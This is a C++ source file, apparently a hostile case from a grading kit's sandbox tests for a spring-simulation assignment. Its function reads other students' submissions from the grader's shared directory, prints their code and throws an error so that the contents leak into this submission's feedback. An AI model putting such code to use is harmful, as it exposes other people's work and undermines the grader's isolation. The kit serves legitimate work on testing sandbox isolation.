// Attack on the other students: shear_springs reads the grader's private copies of every other
// submission graded in the same batch (found from __FILE__: <work>/submissions/<n>-<name>/tasks/
// ...) and prints the start of their files, then throws so that every test fails and
// its output lands in this submission's feedback. Reading is allowed by the sandbox; the other
// submissions' code must not reach this one's feedback (each of the kit's hostile cases starts
// with a "// Attack:" comment).
#include "springlab/task3_shear_springs.hpp"

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <stdexcept>
#include <string>

using namespace springlab;
namespace fs = std::filesystem;

std::vector<Spring> springlab::shear_springs(int, int, const SpringFamilyParameters&) {
  const fs::path own = fs::path(__FILE__).parent_path().parent_path().parent_path();
  std::error_code error;
  int shown = 0;
  for (fs::recursive_directory_iterator it(own.parent_path(), error), end;
       !error && it != end && shown < 8; it.increment(error)) {
    const fs::path& file = it->path();
    if (file.extension() != ".cpp" || file.string().rfind(own.string(), 0) == 0) continue;
    std::ifstream in(file);
    const std::string text{std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
    if (text.find("// Attack") == std::string::npos) continue;
    std::printf("=== %s\n%.200s\n", file.string().c_str(), text.c_str());
    ++shown;
  }
  std::fflush(stdout);
  throw std::runtime_error("see what was printed");
}
